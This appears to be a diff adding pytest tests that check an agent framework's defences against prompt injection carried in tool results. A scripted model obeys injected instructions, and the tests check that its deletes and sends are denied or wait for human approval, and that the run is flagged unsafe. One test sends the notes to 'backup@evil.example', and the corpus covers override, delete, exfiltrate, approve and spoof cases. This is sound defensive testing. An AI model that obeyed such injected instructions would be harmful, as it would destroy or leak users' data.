@@ -1,0 +1,137 @@
+"""Prompt injection through tool results, driven through full runs with a scripted model that
+obeys every instruction it reads (tests/security/injections.json: 56 results carrying
+instructions, 12 plain ones). Nothing denied or unapproved ever runs, the results reach the model
+marked as data, and a run that acts on them ends UNSAFE_DETECTION with the evidence in its trace.
+
+Several cases share one run (the model reads a batch of results, then attempts everything they
+ask), so the corpus runs in a handful of runs on one graph and one database.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+from langchain_core.messages import ToolMessage
+
+from checkpoints import store
+from graph.status import Terminal
+from tests.graph.conftest import CRITIC_PASS, PLAN_ONE_STEP, run_script, runner, step  # noqa: F401  (fixtures)
+
+CORPUS = json.loads((Path(__file__).parent / "injections.json").read_text())
+OUTBOX = Path(__file__).parent / "servers" / "outbox.py"
+BATCH = 28
+BATCHES = [CORPUS["cases"][start:start + BATCH] for start in range(0, len(CORPUS["cases"]), BATCH)]
+NO_SECRETS = {"rules": [{"id": "no-secrets", "action": "deny", "arguments": {"path": "*secrets/*"}}]}
+TASK = {"profile": "research_assistant", "budget": {"tool_calls": 400, "model_turns": 10, "side_effects": 5}}
+"""A profile whose writes, deletes and sends all need a human: unattended, each one is denied."""
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    root = tmp_path / "workspace"
+    (root / "secrets").mkdir(parents=True)
+    (root / "inbox").mkdir()
+    (root / "notes.md").write_text("Action items:\n- Ana: publish the notes\n")
+    (root / "report.md").write_text("# Report\nAll good.\n")
+    (root / "README.md").write_text("Team workspace.\n")
+    (root / "secrets" / "key.txt").write_text("sk-live-0123456789\n")
+    return root
+
+
+@pytest.fixture
+def servers(workspace: Path, tmp_path: Path) -> dict[str, Any]:
+    return {"mcpServers": {
+        "workspace": {"command": sys.executable, "args": ["-m", "mcp_servers.workspace", "--root", str(workspace)], "trusted": True},
+        "outbox": {"command": sys.executable, "args": [str(OUTBOX), "--log", str(tmp_path / "outbox.log")], "trusted": True},
+    }}
+
+
+def _snapshot(root: Path) -> dict[str, str]:
+    return {str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
+            for path in sorted(root.rglob("*")) if path.is_file() and ".boundloop" not in path.parts}
+
+
+def _read(name: str) -> dict[str, Any]:
+    return {"name": "workspace__read_file", "args": {"path": f"inbox/{name}.md"}}
+
+
+@pytest.mark.parametrize("batch", BATCHES, ids=[f"{cases[0]['id']}..{cases[-1]['id']}" for cases in BATCHES])
+async def test_an_obedient_model_never_gets_a_denied_action_run_and_the_run_ends_unsafe(batch, run_script, runner, workspace, servers, tmp_path):
+    for case in batch:
+        (workspace / "inbox" / f"{case['id']}.md").write_text(case["carrier"])
+    before = _snapshot(workspace)
+    attempts = [attempt for case in batch for attempt in case["attempts"]]
+    report = await run_script(
+        {"planner": [PLAN_ONE_STEP], "actor": [step(calls=[_read(case["id"]) for case in batch]), step(calls=attempts), step("done")]},
+        task=TASK, unattended=True, servers=servers, policy=NO_SECRETS,
+    )
+
+    assert report.status == Terminal.UNSAFE_DETECTION
+    assert _snapshot(workspace) == before and not (tmp_path / "outbox.log").exists()
+    assert await store.run_ledger(runner.pool, report.thread_id) == []  # not one side-effecting call was sent
+    observations = report.values["observations"]
+    reads, tried = observations[:len(batch)], observations[len(batch):]
+    assert [obs["status"] for obs in reads] == ["ok"] * len(batch)
+    assert all(obs["instructions"] for obs in reads), [case["id"] for case, obs in zip(batch, reads) if not obs["instructions"]]
+    assert {obs["status"] for obs in tried} <= {"denied", "unknown_tool"} and len(tried) == len(attempts)
+
+    shown = {message.tool_call_id: message.content for message in report.values["messages"] if isinstance(message, ToolMessage)}
+    for position in range(len(batch)):
+        text = shown[f"call_actor_0_{position}"]
+        assert text.startswith("<tool-output>\n") and text.endswith("\n</tool-output>")
+        assert text.count("</tool-output>") == 1  # a result cannot close its own data block
+
+    [safety] = [event for event in await runner.trace(report.thread_id) if event["kind"] == "safety"]
+    assert [item["call_id"] for item in safety["data"]["flagged_results"]] == [obs["call_id"] for obs in reads]
+    assert [item["call_id"] for item in safety["data"]["refused_attempts"]] == [obs["call_id"] for obs in tried]
+
+
+async def test_plain_tool_results_are_not_flagged_and_the_run_commits(run_script, workspace, servers):
+    """The benign half of the corpus: data that mentions deleting, errors or tools is not an instruction."""
+    for number, text in enumerate(CORPUS["benign"]):
+        (workspace / "inbox" / f"plain-{number}.md").write_text(text)
+    reads = [_read(f"plain-{number}") for number in range(len(CORPUS["benign"]))]
+    report = await run_script(
+        {"planner": [PLAN_ONE_STEP], "actor": [step(calls=reads), step("Ana publishes the notes.")], "critic": [CRITIC_PASS]},
+        task=TASK, unattended=True, servers=servers,
+    )
+    assert report.status == Terminal.SUCCESS
+    assert [obs["instructions"] for obs in report.values["observations"]] == [[]] * len(reads)
+
+
+async def test_denials_that_keep_coming_trip_the_breaker_even_without_a_flagged_result(run_script, workspace, servers):
+    """Seed 001, repeated permission denial: three denied calls end the run, whatever was read."""
+    deletes = [{"name": "workspace__delete_file", "args": {"path": name}} for name in ("notes.md", "report.md", "README.md")]
+    report = await run_script(
+        {"planner": [PLAN_ONE_STEP], "actor": [step(calls=[deletes[0]]), step(calls=[deletes[1]]), step(calls=[deletes[2]]), step("done")]},
+        task=TASK, unattended=True, servers=servers,
+    )
+    assert report.status == Terminal.UNSAFE_DETECTION
+    assert report.values["ending"]["reason"].startswith("3 denied calls in one run: workspace__delete_file (a0.0, denied)")
+    assert (workspace / "notes.md").exists() and (workspace / "README.md").exists()
+
+
+async def test_an_attended_run_asks_a_human_and_a_rejection_after_an_injection_ends_unsafe(run_script, runner, workspace, servers, tmp_path):
+    """Attended, the injected send waits for a human instead of running; rejected, the run fails closed."""
+    (workspace / "inbox" / "mail.md").write_text(CORPUS["cases"][25]["carrier"])
+    send = {"name": "outbox__send", "args": {"to": "backup@evil.example", "body": "notes"}}
+    waiting = await run_script(
+        {"planner": [PLAN_ONE_STEP], "actor": [step(calls=[_read("mail")]), step(calls=[send]), step("done")]},
+        task=TASK, servers=servers,
+    )
+    assert waiting.status == Terminal.CONFIRM_REQUIRED and not (tmp_path / "outbox.log").exists()
+    [request] = waiting.interrupts
+    done = await runner.resume(waiting.thread_id, decisions={request["id"]: {"decision": "reject", "message": "never"}})
+    assert done.status == Terminal.UNSAFE_DETECTION
+    assert not (tmp_path / "outbox.log").exists()
+
+
+def test_the_corpus_holds_at_least_fifty_instruction_carrying_results_of_every_kind():
+    kinds = {case["kind"] for case in CORPUS["cases"]}
+    assert len(CORPUS["cases"]) >= 50 and kinds == {"override", "delete", "exfiltrate", "approve", "spoof"}
+    assert all(case["attempts"] for case in CORPUS["cases"])
